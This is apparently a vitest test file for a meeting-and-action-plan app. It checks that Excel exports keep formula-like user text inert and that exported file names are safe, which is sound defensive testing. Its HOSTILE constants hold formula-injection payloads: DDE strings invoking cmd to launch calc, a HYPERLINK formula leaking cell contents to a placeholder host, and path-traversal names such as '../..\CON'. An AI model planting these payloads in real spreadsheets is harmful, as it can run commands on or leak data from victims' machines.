/**
 * Exports under hostile text: whatever a user typed — text starting with = + - @, a tab or a
 * carriage return — stays inert text in both workbooks (the relevé and the plan follow-up), never
 * a formula; and file names built from titles never leave the chosen folder nor use a name
 * Windows refuses.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import ExcelJS from 'exceljs'
import JSZip from 'jszip'
import { mkdirSync } from 'node:fs'
import { basename, join, resolve, sep } from 'node:path'
import type { StartedApp } from '../../main/bootstrap'
import type { ChannelInput, ChannelName, ChannelOutput } from '../../shared/api/contract'
import type { Delivery } from '../../shared/domain/files'
import { writeFaultReport } from './helpers/report'
import { copyDatabase, longLivedDir, makeDemoDatabase, servicesOn } from './helpers/seed'

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n']
const HOSTILE = {
  formula: '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")',
  dde: "=cmd|' /C calc'!A0",
  plus: '+33 6 00 00 00 00',
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SOMME(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
}
/** Characters no Windows file name may hold: reserved punctuation and control characters. */
const refusedCharacter = (name: string) => /[<>:"/\\|?*]/.test(name) || [...name].some((c) => c.charCodeAt(0) < 32)
const WINDOWS_RESERVED = /[. ]$|^(con|prn|aux|nul|com[0-9¹²³]|lpt[0-9¹²³])(\.|$)/i

const work = longLivedDir('copil-exports-')
let template = ''
let demo: { meetingId: number; planId: number }
const tally = {
  workbooks: 0,
  cellsChecked: 0,
  formulas: 0,
  triggerCells: 0,
  unprotected: 0,
  fileNames: [] as string[],
  unsafeNames: 0,
}

beforeAll(async () => {
  template = join(work.dir, 'template.sqlite')
  demo = await makeDemoDatabase(template, work.dir)
}, 60_000)

afterAll(() => {
  writeFaultReport('exports-inert', tally)
  work.remove()
})

async function call<C extends ChannelName>(
  app: StartedApp,
  channel: C,
  input: ChannelInput<C>,
): Promise<ChannelOutput<C>> {
  const result = await app.dispatcher.dispatch(channel, input)
  if (!result.ok) throw new Error(`${channel}: ${result.error.message}`)
  return result.value as ChannelOutput<C>
}

/** Fills every kind of text the two workbooks show with hostile strings, through the channels. */
async function writeHostileText(app: StartedApp): Promise<void> {
  const meeting = await call(app, 'meetings/get', { id: demo.meetingId })
  const committee = await call(app, 'committees/get', { id: meeting.committeeId })
  await call(app, 'committees/save', { id: committee.id, name: HOSTILE.at, acronym: '../..\\CON' })
  const organisation = await call(app, 'organisations/save', {
    name: HOSTILE.minus,
    acronym: HOSTILE.plus,
    side: 'societe_civile',
  })
  const person = await call(app, 'people/save', {
    civility: 'Mme',
    firstName: HOSTILE.plus,
    lastName: HOSTILE.formula,
    function: HOSTILE.dde,
    organisationId: organisation.id,
  })
  await call(app, 'attendance/set', {
    meetingId: meeting.id,
    personId: person.id,
    status: 'represente',
    representedBy: HOSTILE.tab,
  })
  await call(app, 'meetings/saveHeader', {
    id: meeting.id,
    header: {
      title: HOSTILE.formula,
      kind: meeting.kind,
      mode: meeting.mode,
      place: HOSTILE.cr,
      videoTool: HOSTILE.at,
      notes: HOSTILE.dde,
      status: meeting.status,
      dates: meeting.dates,
    },
  })
  const discussion = {
    type: 'doc' as const,
    content: [{ type: 'paragraph', content: [{ type: 'text', text: HOSTILE.dde }] }],
  }
  const item = await call(app, 'agenda/save', {
    meetingId: meeting.id,
    title: HOSTILE.at,
    presenter: HOSTILE.minus,
    discussion,
  })
  await call(app, 'decisions/save', { meetingId: meeting.id, agendaItemId: item.id, text: HOSTILE.plus })
  await call(app, 'nextSteps/save', {
    meetingId: meeting.id,
    text: HOSTILE.cr,
    responsibleText: HOSTILE.formula,
    dueText: HOSTILE.minus,
  })

  await call(app, 'plans/save', {
    id: demo.planId,
    title: `${HOSTILE.formula} ../../CON`,
    periodLabel: HOSTILE.tab,
    committeeId: committee.id,
  })
  const axis = await call(app, 'axes/save', { planId: demo.planId, title: HOSTILE.at })
  const engagement = await call(app, 'engagements/save', {
    axisId: axis.id,
    number: 99,
    title: HOSTILE.dde,
    responsibleText: HOSTILE.minus,
    projectLead: HOSTILE.plus,
  })
  const activity = await call(app, 'activities/save', {
    engagementId: engagement.id,
    number: 1,
    title: HOSTILE.formula,
    baselineText: HOSTILE.minus,
  })
  await call(app, 'progress/report', {
    activityId: activity.id,
    meetingId: meeting.id,
    percent: 40,
    narrative: HOSTILE.formula,
    difficulties: HOSTILE.cr,
    replanning: HOSTILE.at,
  })
  await call(app, 'meetingPlan/saveEngagement', {
    meetingId: meeting.id,
    engagementId: engagement.id,
    percent: null,
    narrative: HOSTILE.plus,
    replanning: HOSTILE.dde,
  })
  await call(app, 'replans/create', {
    activityId: activity.id,
    date: '2021-01-15',
    newText: '-mars 2021',
    reason: HOSTILE.tab,
  })
}

/** Every cell of a workbook: no formula anywhere, and every formula-like text protected. */
async function inspectWorkbook(
  bytes: Buffer,
): Promise<{ formulas: number; triggerCells: number; unprotected: string[]; cells: number; values: string[] }> {
  const zip = await JSZip.loadAsync(bytes)
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer)
  const styles = (await zip.file('xl/styles.xml')?.async('string')) ?? ''
  const xfs = (/<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '').match(/<xf [^>]*>/g) ?? []
  let formulas = 0
  let triggerCells = 0
  let cells = 0
  const unprotected: string[] = []
  const values: string[] = []
  for (const [index, sheet] of workbook.worksheets.entries()) {
    const xml = (await zip.file(`xl/worksheets/sheet${index + 1}.xml`)?.async('string')) ?? ''
    formulas += (xml.match(/<f[ >]/g) ?? []).length
    const styleOf = new Map(
      [...xml.matchAll(/<c r="([A-Z]+\d+)"(?: s="(\d+)")?/g)].map((m) => [m[1], Number(m[2] ?? 0)]),
    )
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        cells += 1
        if (cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined) formulas += 1
        const value = cell.value
        if (typeof value !== 'string') return
        values.push(value)
        if (!TRIGGERS.includes(value.charAt(0))) return
        triggerCells += 1
        const protectedCell =
          cell.numFmt === '@' && (xfs[styleOf.get(cell.address) ?? -1] ?? '').includes('quotePrefix="1"')
        if (!protectedCell) unprotected.push(`${sheet.name}!${cell.address} ${JSON.stringify(value.slice(0, 40))}`)
      }),
    )
  }
  return { formulas, triggerCells, unprotected, cells, values }
}

function expectSafeName(fileName: string, extension: string): void {
  tally.fileNames.push(fileName)
  const folder = resolve(work.dir, 'dossier-choisi')
  const safe =
    basename(fileName) === fileName &&
    !WINDOWS_RESERVED.test(fileName.slice(0, -extension.length - 1)) &&
    !refusedCharacter(fileName)
  if (!safe) tally.unsafeNames += 1
  expect(safe, fileName).toBe(true)
  expect(fileName.endsWith(`.${extension}`)).toBe(true)
  expect(resolve(folder, fileName).startsWith(`${folder}${sep}`)).toBe(true)
}

describe('exports under hostile text', () => {
  for (const which of ['releve', 'plan'] as const) {
    it(`keeps formula-like text inert in the ${which === 'releve' ? 'relevé' : 'plan follow-up'} workbook, with a safe file name`, async () => {
      const dir = join(work.dir, which)
      mkdirSync(dir)
      copyDatabase(template, join(dir, 'copil.sqlite'))
      const app = servicesOn(join(dir, 'copil.sqlite'), dir)
      try {
        await writeHostileText(app)
        let bytes: Buffer
        let fileName: string
        if (which === 'releve') {
          const delivery = (await call(app, 'exports/releve', {
            meetingId: demo.meetingId,
            format: 'xlsx',
          })) as Delivery
          if (delivery.kind !== 'download') throw new Error('the preview delivers by download')
          bytes = app.downloads.take(delivery.id)?.content ?? Buffer.alloc(0)
          fileName = delivery.fileName
        } else {
          const delivery = (await call(app, 'plans/exportXlsx', { planId: demo.planId })) as Delivery
          if (delivery.kind !== 'download') throw new Error('the preview delivers by download')
          bytes = app.downloads.take(delivery.id)?.content ?? Buffer.alloc(0)
          fileName = delivery.fileName
        }
        const found = await inspectWorkbook(bytes)
        tally.workbooks += 1
        tally.cellsChecked += found.cells
        tally.formulas += found.formulas
        tally.triggerCells += found.triggerCells
        tally.unprotected += found.unprotected.length
        expect(found.formulas).toBe(0)
        expect(found.unprotected).toEqual([])
        // The hostile text is really there, as written (a carriage return read back as the line feed Excel uses).
        expect(found.triggerCells).toBeGreaterThanOrEqual(5)
        expect(found.values).toContain(HOSTILE.formula)
        expectSafeName(fileName, 'xlsx')
      } finally {
        app.close()
      }
    })
  }
})
